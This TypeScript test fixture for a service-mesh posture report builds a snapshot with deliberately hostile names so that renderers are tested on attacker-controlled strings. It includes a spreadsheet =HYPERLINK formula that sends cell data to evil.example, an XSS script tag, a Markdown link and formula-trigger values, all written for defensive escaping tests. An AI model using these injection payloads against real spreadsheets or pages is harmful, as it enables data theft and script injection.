// Shared by the renderer tests: a small mesh whose names and policy values are hostile (formula triggers, Markdown and
// HTML syntax, newlines), with manifest locations, so every format is tested on the strings an attacker controls.
import { computePostureDetailed, type PostureComputation } from '@/lib/mesh/compute-posture';
import type { MeshSnapshot } from '@/lib/snapshot/types';
import { aMeta, aNamespace, aPeerAuthentication, aPod, aProxyCertificates, aSnapshot, NOW } from '@/test/builders';
import { buildReportModel, type ReportModel } from '../report-model';

export const HOSTILE_POD = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
export const HOSTILE_NS = '@evil|ns`<script>alert(1)</script>[x](http://evil.example)';

export function hostileSnapshot(): MeshSnapshot {
  return aSnapshot({
    namespaces: [aNamespace('shop', { 'istio-injection': 'enabled' }), aNamespace(HOSTILE_NS), aNamespace('istio-system')],
    pods: [
      aPod({ name: 'web-7d9f8c6b5-x2x4z', namespace: 'shop', labels: { app: 'web' }, ports: [8080, 9090], serviceAccountName: 'web', location: { file: 'manifests/shop.yaml', line: 20 } }),
      aPod({ name: HOSTILE_POD, namespace: HOSTILE_NS, dataplane: 'none', ports: [] }),
      aPod({ name: '-2+3\ncmd', namespace: 'shop', labels: { app: 'tool' }, ports: [7070], serviceAccountName: '+tool' }),
    ],
    peerAuthentications: [
      { ...aPeerAuthentication({ name: 'default', namespace: 'istio-system', mode: 'STRICT' }), meta: aMeta({ name: 'default', namespace: 'istio-system', location: { file: 'manifests/mesh config.yaml', line: 1 } }) },
      // A selector that matches nothing (finding MP102), defined in a manifest file: SARIF points at it.
      { ...aPeerAuthentication({ name: 'typo', namespace: 'shop', selector: { app: 'wbe' }, mode: 'STRICT' }), meta: aMeta({ name: 'typo', namespace: 'shop', location: { file: 'manifests\\shop.yaml', line: 42 } }) },
      aPeerAuthentication({ name: 'web', namespace: 'shop', selector: { app: 'web' }, mode: 'STRICT', portLevelMtls: { 9090: 'PERMISSIVE' } }),
    ],
    proxyCertificates: [
      aProxyCertificates({
        namespace: 'shop', pod: 'web-7d9f8c6b5-x2x4z', origin: 'config-dump',
        chain: [{ serial: 'ab01', subject: '', issuer: 'O=cluster.local', notBefore: '2026-05-01T00:00:00Z', notAfter: '2026-06-01T11:00:00Z', isCA: false, uriSans: ['spiffe://cluster.local/ns/shop/sa/web'], dnsSans: [] }],
      }),
    ],
  });
}

export function hostileReport(): { model: ReportModel; computation: PostureComputation } {
  const computation = computePostureDetailed(hostileSnapshot(), { now: NOW });
  return { computation, model: buildReportModel(computation, { generatedAt: NOW, toolVersion: '0.0.0-test', context: '=ctx' }) };
}
